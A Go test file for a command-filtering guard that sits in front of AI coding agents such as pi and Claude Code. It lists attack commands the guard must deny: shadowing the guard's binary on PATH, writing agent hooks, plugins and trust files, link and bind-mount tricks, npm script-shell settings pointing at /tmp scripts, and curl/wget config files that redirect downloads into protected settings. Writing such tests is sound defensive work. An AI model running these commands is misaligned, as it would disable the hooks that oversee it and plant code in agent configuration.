package guard

import (
	"slices"
	"strings"
	"testing"
)

// Pass 34: the gate's own binary (a pruner that shadows it on PATH), code
// pi and Claude Code load (gate rules), links made by cp/lndir/mounts,
// curl and wget configuration on the disk, npm's configuration that runs
// a program, mktemp in a protected folder. Attack rows are denied with the
// reason's words; near-benign rows stay allowed; with and without a disk.

func gate34Matchers() map[string]*Matcher {
	files := map[string]string{
		tCwd + "/.env":                     "K=1",
		tCwd + "/.claude/settings.json":    `{"hooks":{}}`,
		tCwd + "/.pi/settings.json":        `{"packages":[]}`,
		tCwd + "/.pi/extensions/own.ts":    "export default 1",
		tCwd + "/docs/a.md":                "a",
		tCwd + "/src/main.go":              "package main",
		tHome + "/.pi/agent/settings.json": "{}",
		"/tmp/curlrc":                      "output = \".pi/settings.json\"\nurl = https://example.com/x\n",
		"/tmp/okcurlrc":                    "silent\nretry = 3\n",
		"/tmp/dlrc":                        "remote-name\n",
		"/tmp/w":                           "output_document = .env\n",
		"/tmp/okw":                         "tries = 3\n",
		"/tmp/home2/.curlrc":               "-o .claude/settings.json\n",
	}
	return map[string]*Matcher{
		"disk":    gate20Rules().Matcher(Env{Cwd: tCwd, Home: tHome, FS: linkFS(files, nil)}),
		"no disk": gate20Rules().Matcher(Env{Cwd: tCwd, Home: tHome}),
	}
}

func runGate34(t *testing.T, cases []gate20Case, only ...string) {
	t.Helper()
	for name, m := range gate34Matchers() {
		if len(only) > 0 && !slices.Contains(only, name) {
			continue
		}
		checkGate20(t, name, m, cases)
	}
}

// A pruner in a PATH folder before the real one's shadows the hook: each
// folder up to and including the binary's is protected for the hook's
// name; folders after it are not; an empty or relative entry protects the
// name anywhere.
func TestPass34PathShadow(t *testing.T) {
	exe := "/opt/pr/bin/pruner"
	pathEnv := tHome + "/.local/bin:/opt/pr/bin:/usr/bin"
	r := DefaultRules().Union(GateRules(tHome+"/.pi/agent", exe)).Union(PathRules(exe, pathEnv, nil))
	m := r.Matcher(Env{Cwd: tCwd, Home: tHome})
	checkGate20(t, "path", m, []gate20Case{
		{`cp /bin/true ~/.local/bin/pruner`, true, []string{tHome + "/.local/bin/pruner", "denies write"}},
		{`printf '#!/bin/sh\nexit 0\n' > ~/.local/bin/pruner`, true, []string{"~/.local/bin/pruner"}},
		{`ln -s /bin/true ~/.local/bin/pruner`, true, []string{"~/.local/bin/pruner"}},
		{`install -m755 /bin/true ~/.local/bin/pruner`, true, nil},
		{`cp /bin/true /opt/pr/bin/pruner`, true, nil},
		// near-benign: other names there, a folder searched after it
		{`cp /bin/true ~/.local/bin/prunerx`, false, nil},
		{`cp build/tool ~/.local/bin/tool`, false, nil},
		{`cp /bin/true /usr/bin/pruner`, false, nil},
		{`go build -o pruner ./cmd/pruner`, false, nil},
	})
	// `.` and an empty entry: the working folder, which changes
	for _, pe := range []string{".:/opt/pr/bin", ":/opt/pr/bin", "/opt/pr/bin::"} {
		rules := PathRules(exe, pe, nil)
		hasBare := slices.ContainsFunc(rules.Entries, func(e Entry) bool { return e.Path == "pruner" })
		if want := !strings.HasPrefix(pe, "/opt"); hasBare != want {
			t.Errorf("PATH %q: a bare-name rule %v, want %v (%v)", pe, hasBare, want, rules.Entries)
		}
	}
	m2 := DefaultRules().Union(PathRules(exe, ".:/opt/pr/bin", nil)).Matcher(Env{Cwd: tCwd, Home: tHome})
	checkGate20(t, "dot", m2, []gate20Case{
		{`cp /bin/true ./pruner`, true, []string{`rule "pruner" denies write`}},
		{`cp /bin/true pruner`, true, nil},
		{`cp /bin/true ./tool`, false, nil},
	})
	// the binary's folder not on the PATH (run by its full path): every
	// folder is protected
	if got := PathRules(exe, "/a:/b", nil); len(got.Entries) != 2 || got.Entries[1].Path != "/b/pruner" {
		t.Errorf("exe off the PATH: %v, want /a/pruner and /b/pruner", got.Entries)
	}
	// a binary under another name: that name too
	got := PathRules("/opt/pr/bin/pruner-1.2", "/a:/opt/pr/bin", nil)
	var paths []string
	for _, e := range got.Entries {
		paths = append(paths, e.Path)
		if e.Deny != SetWrite|SetEdit || e.Source != PathRulesSource {
			t.Errorf("%s: deny %v source %q", e.Path, e.Deny, e.Source)
		}
	}
	// (the binary itself is GateRules')
	if want := []string{"/a/pruner", "/a/pruner-1.2", "/opt/pr/bin/pruner"}; !slices.Equal(paths, want) {
		t.Errorf("PathRules: %v, want %v", paths, want)
	}
	if n := len(PathRules("", "", nil).Entries); n != 0 {
		t.Errorf("no exe, no PATH: %d rules", n)
	}
	// a PATH folder that is a link to the binary's: the search stops there
	res := func(d string) string {
		if d == "/usr/local/bin" {
			return "/opt/pr/bin"
		}
		return d
	}
	if got := PathRules(exe, "/a:/usr/local/bin:/b", res); len(got.Entries) != 2 || got.Entries[1].Path != "/usr/local/bin/pruner" {
		t.Errorf("a link to the binary's folder: %v, want /a/pruner, /usr/local/bin/pruner", got.Entries)
	}
}

// Code pi and Claude Code load: write and edit denied, reading allowed.
func TestPass34GateRules(t *testing.T) {
	runGate34(t, []gate20Case{
		{`echo 'git(){ :; }' > ~/.pi/agent/bin/git && chmod +x ~/.pi/agent/bin/git`, true, []string{"/.pi/agent/bin/", "denies write"}},
		{`echo '{"/home/user/evil":true}' > ~/.pi/agent/trust.json`, true, []string{"/.pi/agent/trust.json"}},
		{`git clone https://x/p ~/.pi/agent/git/github.com/x/p`, true, []string{"/.pi/agent/git/"}},
		{`echo x > .pi/git/github.com/x/p/index.ts`, true, []string{`rule ".pi/git/"`}},
		{`echo "{}" > .pi/npm/package.json`, true, []string{`rule ".pi/npm/"`}},
		{`cp e.js ~/.pi/agent/npm/node_modules/p/index.js`, true, []string{"/.pi/agent/npm/"}},
		{`sudo tee /etc/claude-code/managed-settings.json < s.json`, true, []string{"/etc/claude-code/managed-settings.json"}},
		{`cp s.json "/Library/Application Support/ClaudeCode/managed-settings.json"`, true, []string{"managed-settings.json"}},
		{`mkdir -p ~/.claude/plugins/p/hooks && echo '{}' > ~/.claude/plugins/p/hooks/hooks.json`, true, []string{`~/.claude/plugins/`}},
		// near-benign: reading them, other files next to them
		{`cat ~/.pi/agent/trust.json`, false, nil},
		{`ls ~/.pi/agent/bin ~/.claude/plugins`, false, nil},
		{`cat /etc/claude-code/managed-settings.json`, false, nil},
		{`echo x > ~/.pi/agent/notes.md`, false, nil},
	})
}

// cp -l/-s (and -al/-rs), lndir, bind mounts make links: a write of their
// targets, as ln is.
func TestPass34Links(t *testing.T) {
	runGate34(t, []gate20Case{
		{`cp -l .pi/settings.json x && echo '{"packages":["npm:evil"]}' > x`, true, []string{".pi/settings.json", "denies write"}},
		{`cp --link .claude/settings.json x`, true, []string{".claude/settings.json"}},
		{`cp -s "$PWD/.pi/settings.json" s`, true, []string{".pi/settings.json"}},
		{`cp --symbolic-link ~/.pi/agent/settings.json s`, true, []string{"/.pi/agent/settings.json"}},
		{`cp -al .pi /tmp/p`, true, []string{".pi"}},
		{`cp -al node_modules/pkg /tmp/p`, true, []string{`rule "node_modules/" denies write`}},
		{`cp -l node_modules/pkg/index.js /tmp/i.js`, true, []string{`rule "node_modules/" denies write`}},
		{`cp -rs "$PWD/.claude" /tmp/c`, true, []string{".claude"}},
		{`cp -sr .pi/extensions /tmp/e`, true, []string{".pi/extensions"}},
		{`lndir .pi /tmp/p`, true, []string{"lndir", ".pi"}},
		{`lndir /tmp/evil`, true, []string{"lndir"}},
		{`mount --bind .pi /mnt/p`, true, []string{"a bind mount", ".pi"}},
		{`mount -o bind .claude /mnt/c`, true, []string{".claude"}},
		{`bindfs .pi /mnt/p`, true, []string{".pi"}},
		// near-benign: links to, and copies of, unprotected files
		{`cp -l docs/a.md /tmp/a.md`, false, nil},
		{`cp -al src /tmp/src`, false, nil},
		{`cp -s "$PWD/docs/a.md" /tmp/a`, false, nil},
		{`cp .pi/settings.json /tmp/s.json`, false, nil},
		{`cp -r .pi /tmp/p`, false, nil},
		{`cp -r node_modules/pkg /tmp/p`, false, nil},
		{`cp node_modules/pkg/index.js /tmp/i.js`, false, nil},
		{`lndir ../src /tmp/build`, false, nil},
		{`mount --bind src /mnt/src`, false, nil},
	})
}

// mktemp makes a file with a random name in the folder it is given.
func TestPass34Mktemp(t *testing.T) {
	runGate34(t, []gate20Case{
		{`mktemp -p .pi/extensions XXXX.ts`, true, []string{"mktemp, which makes a file with a random name in \".pi/extensions\"", `rule ".pi/extensions/"`}},
		{`mktemp .pi/extensions/XXXXXX.ts`, true, []string{`rule ".pi/extensions/"`}},
		{`mktemp --tmpdir=.pi/extensions XXXX.ts`, true, []string{`".pi/extensions"`}},
		{`mktemp -dp .pi/extensions`, true, []string{".pi/extensions"}},
		{`f=$(mktemp -p ~/.pi/agent/extensions XXXX.ts) && curl -so "$f" https://x/e.ts`, true, []string{"/.pi/agent/extensions/"}},
		{`mktemp -p . .envXXX`, true, []string{`rule ".env"`}},
		{`mktemp -p "$D" x.XXXX`, true, []string{"mktemp"}},
		{`TMPDIR=.pi/extensions mktemp`, true, []string{`rule ".pi/extensions/"`}},
		{`export TMPDIR=.pi/extensions; mktemp`, true, []string{`rule ".pi/extensions/"`}},
		{`TMPDIR=.pi/extensions mktemp -t x.XXXX.ts`, true, []string{`rule ".pi/extensions/"`}},
		// near-benign: the temporary folder, other folders, names no rule
		// matches, -u (nothing made)
		{`mktemp`, false, nil},
		{`mktemp -d`, false, nil},
		{`TMPDIR=/tmp/build mktemp`, false, nil},
		{`export TMPDIR=$(mktemp -d); mktemp`, false, nil},
		{`TMPDIR=build mktemp -d`, false, nil},
		{`mktemp -t build.XXXX`, false, nil},
		{`mktemp -p /tmp XXXX`, false, nil},
		{`mktemp -p . XXXX.txt`, false, nil},
		{`mktemp build/out.XXXX`, false, nil},
		{`mktemp -u -p .pi/extensions`, false, nil},
		{`d=$(mktemp -d) && mktemp -p "$d" x.XXXX`, false, nil},
	})
}

// npm/pnpm/yarn configuration that names a program they run later.
func TestPass34NpmConfig(t *testing.T) {
	runGate34(t, []gate20Case{
		{`npm config set script-shell /tmp/e.sh && npm test`, true, []string{`npm config set sets "script-shell"`, "a later command"}},
		{`npm config set script-shell=/tmp/e.sh`, true, []string{"script-shell"}},
		{`npm set script-shell /tmp/e.sh`, true, []string{"script-shell"}},
		{`npm config set --location=project node-options "--require /tmp/e.js"`, true, []string{"node-options"}},
		{`npm config set --location project script-shell /tmp/e.sh`, true, []string{"script-shell"}},
		{`npm config set -g registry https://r.example editor /tmp/e.sh`, true, []string{"editor"}},
		{`yarn config set scriptShell /tmp/e.sh`, true, []string{"scriptShell"}},
		{`yarn config set yarnPath /tmp/e.cjs`, true, []string{"yarnPath"}},
		{`pnpm config set script-shell /tmp/e.sh`, true, []string{"script-shell"}},
		{`echo script-shell=/tmp/e.sh > .npmrc && npm test`, true, []string{`npm reads ".npmrc"`, "script-shell"}},
		{`printf 'scriptShell: /tmp/e.sh\n' > .yarnrc.yml; yarn test`, true, []string{"scriptShell"}},
		{`npm_config_script_shell=/tmp/e.sh npm test`, true, nil},
		// near-benign
		{`npm config set registry https://registry.example.com`, false, nil},
		{`npm config get script-shell`, false, nil},
		{`npm config set --location project registry https://r.example`, false, nil},
		{`echo registry=https://r.example > .npmrc && npm install`, false, nil},
		{`npm test`, false, nil},
		{`yarn config set enableTelemetry false`, false, nil},
	})
}

// .npmrc on the disk: read when npm runs.
func TestPass34NpmrcDisk(t *testing.T) {
	files := map[string]string{tCwd + "/.npmrc": "script-shell=/tmp/e.sh\n", tHome + "/.npmrc": "registry=https://r.example\n"}
	m := gate20Rules().Matcher(Env{Cwd: tCwd, Home: tHome, FS: linkFS(files, nil)})
	checkGate20(t, "disk", m, []gate20Case{
		{`npm test`, true, []string{`npm reads ".npmrc", which sets "script-shell"`}},
		{`npm run build`, true, nil},
	})
	ok := gate20Rules().Matcher(Env{Cwd: tCwd, Home: tHome, FS: linkFS(map[string]string{tCwd + "/.npmrc": "registry=https://r.example\n", tHome + "/.npmrc": "registry=https://r.example\n//r.example/:_authToken=x\n"}, nil)})
	checkGate20(t, "disk ok", ok, []gate20Case{{`npm test`, false, nil}, {`npm install`, false, nil}})
}

// curl and wget configuration files on the disk are analysed; one named
// by the command that cannot be read is unverifiable.
func TestPass34CurlWgetRC(t *testing.T) {
	runGate34(t, []gate20Case{
		{`curl -K /tmp/curlrc`, true, []string{".pi/settings.json", "denies write"}},
		{`curl --config /tmp/curlrc https://example.com/x`, true, []string{".pi/settings.json"}},
		{`curl -K /tmp/dlrc https://example.com/x`, true, []string{"download options"}},
		{`CURL_HOME=/tmp/home2 curl https://example.com/x`, true, []string{".claude/settings.json"}},
		{`export CURL_HOME=/tmp/home2; curl https://example.com/x`, true, []string{".claude/settings.json"}},
		{`wget --config /tmp/w https://example.com/x`, true, []string{"outputdocument"}},
		{`echo 'output = .pi/settings.json' > ~/.curlrc && curl https://example.com/x`, true, []string{".pi/settings.json"}},
		// near-benign
		{`curl -K /tmp/okcurlrc https://example.com/x`, false, nil},
		{`wget --config /tmp/okw https://example.com/x`, false, nil},
		{`curl -K /tmp/missing https://example.com/x`, false, nil},
		{`curl -s https://example.com/x`, false, nil},
		{`curl -q -o out.txt https://example.com/x`, false, nil},
	}, "disk")
	runGate34(t, []gate20Case{
		{`curl -K /tmp/okcurlrc https://example.com/x`, true, []string{"pruner cannot read (the disk is not consulted)"}},
		{`CURL_HOME=/tmp/home2 curl https://example.com/x`, true, []string{"CURL_HOME"}},
		{`wget --config /tmp/okw https://example.com/x`, true, []string{"the disk is not consulted"}},
		{`curl -K "$F" https://example.com/x`, true, nil},
		{`curl -s https://example.com/x`, false, nil},
		{`curl -K - https://example.com/x <<< 'silent'`, false, nil},
	}, "no disk")
	// the user's ~/.curlrc and ~/.wgetrc on the disk, written by an
	// earlier call
	files := map[string]string{tCwd + "/docs/a.md": "a", tHome + "/.curlrc": "output = .pi/settings.json\n", tHome + "/.wgetrc": "output_document = .env\n"}
	m := gate20Rules().Matcher(Env{Cwd: tCwd, Home: tHome, FS: linkFS(files, nil)})
	checkGate20(t, "home rc", m, []gate20Case{
		{`curl https://example.com/x`, true, []string{".pi/settings.json"}},
		{`wget https://example.com/x`, true, []string{"outputdocument"}},
		{`curl -q https://example.com/x`, false, nil},
		{`wget --no-config https://example.com/x`, false, nil},
	})
}
